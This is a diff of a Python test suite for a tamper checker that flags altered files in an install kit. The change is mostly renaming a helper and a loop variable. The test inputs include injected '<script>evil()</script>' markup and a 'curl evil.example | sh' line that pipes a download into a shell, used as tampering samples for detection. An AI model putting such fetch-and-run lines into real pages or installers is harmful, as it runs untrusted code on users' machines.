@@ -57,15 +57,20 @@ class Kit:
         known: KnownKits | None = None,
     ) -> list[Finding]:
         files = {**self.files, **changes}
-        found = FoundKit({name: data for name, data in files.items() if data is not None})
+        files_here = FoundKit({name: data for name, data in files.items() if data is not None})
         return list(
-            judge_kit(self.possible, found, known or known_kits(), circumstances or Circumstances())
+            judge_kit(
+                self.possible, files_here, known or known_kits(), circumstances or Circumstances()
+            )
         )
 
-    def found(
+    def codes_for(
         self, name: str, data: bytes | None, circumstances: Circumstances | None = None
     ) -> Codes:
-        return {(one.code.value, one.subject) for one in self.judged({name: data}, circumstances)}
+        return {
+            (finding.code.value, finding.subject)
+            for finding in self.judged({name: data}, circumstances)
+        }
 
     def text(self, name: str) -> str:
         return self.files[name].decode()
@@ -87,11 +92,11 @@ def test_a_sound_one(kit: Kit) -> None:
     "name", ["install.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo"]
 )
 def test_a_file_is_gone_or_rubbish(kit: Kit, name: str) -> None:
-    assert kit.found(name, None) == {MISSING}
+    assert kit.codes_for(name, None) == {MISSING}
     for data in (b"", b"\xff\x00", b"evil", kit.files[name][:-20]):
-        found = kit.found(name, data)
+        codes = kit.codes_for(name, data)
         # Without the list nobody knows which version the others are from; they are of this one.
-        assert found == {altered(name)}
+        assert codes == {altered(name)}
 
 
 # ---- What is fixed
@@ -107,7 +112,7 @@ def test_what_is_fixed_was_changed(kit: Kit, name: str) -> None:
         text.replace("<!--", "<script>evil()</script><!--", 1) if "<!--" in text else f"\n{text}",
     ):
         assert changed != text
-        assert kit.found(name, changed.encode()) == {altered(name)}
+        assert kit.codes_for(name, changed.encode()) == {altered(name)}
 
 
 @pytest.mark.parametrize("claim", ["99.1", "", "\x1b[31m", None])
@@ -120,26 +125,27 @@ def test_another_version_is_told_from_a_change(kit: Kit, claim: str | None) -> N
         "contents.tsv": table.replace(line, "" if claim is None else f"kit\t{claim}\n").encode(),
         "install.sh": b"#!/bin/sh\necho something else\n",
     }
-    (one,) = kit.judged(changes)
-    assert (one.code.value, one.subject, one.severity.value) == (*UNKNOWN, "error")
-    assert str(one.message).startswith("install.sh may be from")
-    assert ("Satchel 99.1" in str(one.message)) is (claim == "99.1")
-    assert str(one.message).isprintable()
+    (finding,) = kit.judged(changes)
+    assert (finding.code.value, finding.subject, finding.severity.value) == (*UNKNOWN, "error")
+    assert str(finding.message).startswith("install.sh may be from")
+    assert ("Satchel 99.1" in str(finding.message)) is (claim == "99.1")
+    assert str(finding.message).isprintable()
     # What a later version writes beside what this one knows.
     table = kit.text("contents.tsv").replace(line, "kit\t99.1\n")
     for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2") + "x\ty\n"):
-        (one,) = kit.judged({**changes, "contents.tsv": more.encode()})
-        assert (one.code.value, one.subject) == UNKNOWN
+        (finding,) = kit.judged({**changes, "contents.tsv": more.encode()})
+        assert (finding.code.value, finding.subject) == UNKNOWN
     more = f"{table}repo\telsewhere\n"
-    assert {one.subject for one in kit.judged({**changes, "contents.tsv": more.encode()})} == {
+    judged = kit.judged({**changes, "contents.tsv": more.encode()})
+    assert {finding.subject for finding in judged} == {
         "satchel", "satchel/contents.tsv",
     }  # fmt: skip
     # Where everything else is of a known version, nothing is excused.
     for more in (f"{table}color\tblue\n", table.replace("contents\t1", "contents\t2")):
-        assert kit.found("contents.tsv", more.encode()) == {LIST}
+        assert kit.codes_for("contents.tsv", more.encode()) == {LIST}
     changes["START-HERE.html"] = b"<!DOCTYPE html>"
     changes["evil.flatpakrepo"] = kit.files["test.flatpakrepo"]
-    told = [(one.code.value, one.subject) for one in kit.judged(changes)]
+    told = [(finding.code.value, finding.subject) for finding in kit.judged(changes)]
     assert UNKNOWN in told
     assert altered("evil.flatpakrepo") in told
 
@@ -155,8 +161,8 @@ def test_an_older_version_is_known(kit: Kit) -> None:
     )
     changes: dict[str, bytes | None] = {"install.sh": older, "contents.tsv": table}
     assert kit.judged(changes, known=known) == []
-    (one,) = kit.judged({**changes, "install.sh": older + b"evil"}, known=known)
-    assert (one.code.value, one.subject) == INSTALLER
+    (finding,) = kit.judged({**changes, "install.sh": older + b"evil"}, known=known)
+    assert (finding.code.value, finding.subject) == INSTALLER
 
 
 # ---- The list
@@ -179,14 +185,14 @@ LISTED: dict[str, Lines] = {
 @pytest.mark.parametrize("change", LISTED)
 def test_the_list_was_changed(kit: Kit, change: str) -> None:
     lines = LISTED[change](kit.text("contents.tsv").splitlines())
-    assert kit.found("contents.tsv", "\n".join([*lines, ""]).encode()) == {LIST}
+    assert kit.codes_for("contents.tsv", "\n".join([*lines, ""]).encode()) == {LIST}
 
 
 def test_the_order_of_the_list_means_nothing(kit: Kit) -> None:
     lines = kit.text("contents.tsv").splitlines()
-    assert kit.found("contents.tsv", "\n".join([*reversed(lines), ""]).encode()) == set()
+    assert kit.codes_for("contents.tsv", "\n".join([*reversed(lines), ""]).encode()) == set()
     # A last line that does not end is none for a shell.
-    assert kit.found("contents.tsv", "\n".join(lines).encode()) == {LIST}
+    assert kit.codes_for("contents.tsv", "\n".join(lines).encode()) == {LIST}
 
 
 # ---- The page
@@ -201,8 +207,8 @@ def test_the_page_says_something_else(kit: Kit) -> None:
         for text in ("evil", f"{filling}<p>curl evil.example | sh</p>", f"{filling}<!--x-->"):
             changed = page.replace(marked.encode(), f"<!--{gap}-->{text}<!--/{gap}-->".encode(), 1)
             assert changed != page
-            assert kit.found("START-HERE.html", changed) == {PAGE}, (gap, text)
-        assert kit.found("START-HERE.html", page.replace(marked.encode(), b"", 1)) == {PAGE}
+            assert kit.codes_for("START-HERE.html", changed) == {PAGE}, (gap, text)
+        assert kit.codes_for("START-HERE.html", page.replace(marked.encode(), b"", 1)) == {PAGE}
 
 
 @pytest.mark.parametrize(
@@ -224,9 +230,9 @@ def test_what_the_drive_is_called(kit: Kit, label: str, sound: bool) -> None:
     old = dict(read_page(text.encode())[1])["label_en"]
     for gap in ("label_en", "label_de"):
         text = text.replace(f"<!--{gap}-->{old}<", f"<!--{gap}-->{label}<")
-    assert kit.found("START-HERE.html", text.encode()) == (set() if sound else {PAGE})
+    assert kit.codes_for("START-HERE.html", text.encode()) == (set() if sound else {PAGE})
     text = text.replace(f"<!--label_de-->{label}<", "<!--label_de-->other<", 1)
-    assert kit.found("START-HERE.html", text.encode()) == {PAGE}
+    assert kit.codes_for("START-HERE.html", text.encode()) == {PAGE}
 
 
 # ---- Under way
@@ -237,7 +243,8 @@ def test_an_interrupted_job_excuses_no_lie(kit: Kit) -> None:
     before = replace(kit.contents, refs=kit.contents.refs[1:])
     under_way = replace(kit, contents=before, others=(kit.contents,))
     assert under_way.judged({}) == []
-    assert {(one.code.value, one.subject) for one in replace(kit, contents=before).judged({})} == {
+    judged = replace(kit, contents=before).judged({})
+    assert {(finding.code.value, finding.subject) for finding in judged} == {
         LIST, PAGE,
     }  # fmt: skip
     table, page = kit.text("contents.tsv"), kit.text("START-HERE.html")
@@ -248,7 +255,7 @@ def test_an_interrupted_job_excuses_no_lie(kit: Kit) -> None:
         ("install.sh", "evil"),
         ("test.flatpakrepo", kit.text("test.flatpakrepo").replace("file:///", EVIL)),
     ):
-        assert under_way.found(name, data.encode()) == {altered(name)}
+        assert under_way.codes_for(name, data.encode()) == {altered(name)}
 
 
 # ---- Key files
@@ -274,18 +281,20 @@ def test_a_key_file_says_something_else(kit: Kit, change: str) -> None:
     old, new = FILES[change]
     text = kit.text("test.flatpakrepo")
     assert old in text
-    assert kit.found("test.flatpakrepo", text.replace(old, new).encode()) == {KEY_FILE}
+    assert kit.codes_for("test.flatpakrepo", text.replace(old, new).encode()) == {KEY_FILE}
 
 
 def test_a_key_file_that_says_the_same(kit: Kit) -> None:
     """As another version may have written it."""
     head, *lines = kit.text("test.flatpakrepo").splitlines()
     text = "\n".join(["# Written by hand", head, *reversed(lines), ""])
-    assert kit.found("test.flatpakrepo", text.encode()) == set()
+    assert kit.codes_for("test.flatpakrepo", text.encode()) == set()
 
 
 def test_a_key_file_more(kit: Kit) -> None:
-    assert kit.found("a.flatpakrepo", kit.files["test.flatpakrepo"]) == {altered("a.flatpakrepo")}
+    assert kit.codes_for("a.flatpakrepo", kit.files["test.flatpakrepo"]) == {
+        altered("a.flatpakrepo")
+    }
 
 
 def test_what_cannot_be_a_kit_is_no_crash(kit: Kit) -> None:
@@ -298,7 +307,7 @@ def test_what_cannot_be_a_kit_is_no_crash(kit: Kit) -> None:
 
 
 def copied(files: Mapping[str, bytes | None]) -> Codes:
-    return {(one.code.value, one.subject) for one in judge_key_files(COLLECTION, files)}
+    return {(finding.code.value, finding.subject) for finding in judge_key_files(COLLECTION, files)}
 
 
 def test_the_file_beside_the_copy(kit: Kit) -> None:
